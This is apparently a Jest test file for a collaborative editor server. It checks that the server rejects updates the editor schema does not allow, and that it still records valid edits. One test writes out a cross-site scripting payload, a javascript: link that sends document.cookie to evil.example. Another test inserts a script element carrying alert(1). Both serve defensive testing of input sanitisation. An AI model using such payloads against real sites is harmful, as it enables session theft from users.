import { buildDocument, CONTENT_FIELD, toProseMirrorJson } from '@concord/content';
import * as Y from 'yjs';
import { appendParagraph, contentEvents, eventually, sleep, textOf, useCollabHarness, users } from '../testing/collab-harness';
import { CONTENT_UPDATED } from './persistence/content-events';
import { InvalidUpdateError } from './proposal-content';

jest.setTimeout(20_000);

describe('content the editor can render (schema check of every incoming update)', () => {
  const harness = useCollabHarness();

  async function seeded() {
    const server = await harness.startServer();
    const seed = new Y.Doc();
    appendParagraph(seed.getXmlFragment(CONTENT_FIELD), 'Click here for the annex');
    await server.collab.content.appendUpdate('p-links', Y.encodeStateAsUpdate(seed), { userId: 'system', kind: 'seed' });
    seed.destroy();
    return server;
  }

  async function recordedDocument(server: Awaited<ReturnType<typeof seeded>>) {
    const events = await contentEvents(server.store, 'p-links');
    const updates = events.filter((event) => event.type === CONTENT_UPDATED).map((event) => event.data as Uint8Array);
    const doc = buildDocument({ updates });
    const json = JSON.stringify(toProseMirrorJson(doc));
    doc.destroy();
    return { events, json };
  }

  it('records nothing of a javascript: link written by the stock y-websocket client, and says why', async () => {
    const server = await seeded();
    const attacker = harness.connect(server, 'p-links', users.drafter1);
    await attacker.synced;
    const before = (await contentEvents(server.store, 'p-links')).length;

    const text = (attacker.content.get(0) as Y.XmlElement).get(0) as Y.XmlText;
    text.format(0, 5, { link: { href: 'javascript:fetch("https://evil.example/"+document.cookie)' } });

    await eventually(() =>
      server.logs.some((line) => line.level === 'warn' && String(line.fields['reason'] ?? '').includes('a link address must start with http:, https: or mailto:')),
    );
    // The server still takes valid edits from others, and they are recorded after the refusal.
    const colleague = harness.connect(server, 'p-links', users.drafter2);
    await colleague.synced;
    appendParagraph(colleague.content, 'A valid paragraph');
    await eventually(async () => (await contentEvents(server.store, 'p-links')).length === before + 1);
    await sleep(100);

    const { events, json } = await recordedDocument(server);
    expect(events).toHaveLength(before + 1);
    expect(json).not.toContain('javascript');
    expect(json).not.toContain('"link"');
    expect(json).toContain('A valid paragraph');
    expect(textOf(colleague.content)).toBe('Click here for the annex\nA valid paragraph');
    // Others never received the link either.
    expect(JSON.stringify(colleague.content.toJSON())).not.toContain('javascript');
  });

  it('records a link to an https: address', async () => {
    const server = await seeded();
    const drafter = harness.connect(server, 'p-links', users.drafter1);
    await drafter.synced;
    const before = (await contentEvents(server.store, 'p-links')).length;
    ((drafter.content.get(0) as Y.XmlElement).get(0) as Y.XmlText).format(0, 5, { link: { href: 'https://example.org/annex' } });
    await eventually(async () => (await contentEvents(server.store, 'p-links')).length === before + 1);
    expect((await recordedDocument(server)).json).toContain('https://example.org/annex');
  });

  it('refuses unknown node types and attributes on the server path (seeding, restore) too', async () => {
    const server = await seeded();
    const doc = new Y.Doc();
    const script = new Y.XmlElement('script');
    script.insert(0, [new Y.XmlText('alert(1)')]);
    doc.getXmlFragment(CONTENT_FIELD).insert(0, [script]);
    await expect(
      server.collab.content.appendUpdate('p-links', Y.encodeStateAsUpdate(doc), { userId: 'system', kind: 'seed' }),
    ).rejects.toThrow(InvalidUpdateError);
    doc.destroy();
    expect((await recordedDocument(server)).json).not.toContain('script');
  });
});
